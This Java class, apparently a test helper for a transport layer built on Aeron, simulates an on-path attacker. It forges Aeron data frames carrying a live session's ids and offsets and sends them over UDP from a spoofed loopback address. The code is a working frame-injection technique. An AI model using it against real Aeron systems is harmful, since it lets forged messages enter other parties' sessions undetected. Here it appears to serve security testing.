package io.spore.transport;

import io.aeron.ExclusivePublication;
import io.aeron.logbuffer.FrameDescriptor;
import io.aeron.logbuffer.LogBufferDescriptor;
import io.aeron.protocol.DataHeaderFlyweight;
import io.aeron.protocol.HeaderFlyweight;
import org.agrona.BitUtil;
import org.agrona.DirectBuffer;
import org.agrona.concurrent.UnsafeBuffer;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;

/**
 * An attacker on the path, as a real UDP socket: writes an Aeron data frame by hand into a live session of a
 * connection, with the session's id, stream, term id and offset (read from the real publication, as a sniffer would
 * read them from the traffic), sent from another source address than the real sender's. Aeron itself has no way to
 * tell it from the real sender's next frame.
 */
final class AeronInjector implements AutoCloseable {
    private final DatagramSocket socket;

    /** @param sourceAddress the address to send from, e.g. {@code 127.0.0.2} (any address of the loopback net) */
    AeronInjector(String sourceAddress) throws IOException {
        this.socket = new DatagramSocket(new InetSocketAddress(InetAddress.getByName(sourceAddress), 0));
    }

    /**
     * Sends {@code message} as the next Aeron message of {@code publication}'s session, where the real sender would
     * write its next one.
     *
     * @param target the receiving node's UDP endpoint
     */
    void injectNext(ExclusivePublication publication, InetSocketAddress target, DirectBuffer message, int offset,
                    int length) throws IOException {
        int termLength = publication.termBufferLength();
        long position = publication.position();
        int termId = LogBufferDescriptor.computeTermIdFromPosition(position,
            LogBufferDescriptor.positionBitsToShift(termLength), publication.initialTermId());
        int termOffset = (int) (position & (termLength - 1));
        int frameLength = DataHeaderFlyweight.HEADER_LENGTH + length;
        byte[] datagram = new byte[BitUtil.align(frameLength, FrameDescriptor.FRAME_ALIGNMENT)];
        DataHeaderFlyweight header = new DataHeaderFlyweight(new UnsafeBuffer(datagram));
        header.frameLength(frameLength);
        header.version(HeaderFlyweight.CURRENT_VERSION);
        header.flags((short) DataHeaderFlyweight.BEGIN_AND_END_FLAGS);
        header.headerType(HeaderFlyweight.HDR_TYPE_DATA);
        header.termOffset(termOffset);
        header.sessionId(publication.sessionId());
        header.streamId(publication.streamId());
        header.termId(termId);
        message.getBytes(offset, datagram, DataHeaderFlyweight.HEADER_LENGTH, length);
        socket.send(new DatagramPacket(datagram, datagram.length, target));
    }

    @Override
    public void close() {
        socket.close();
    }
}
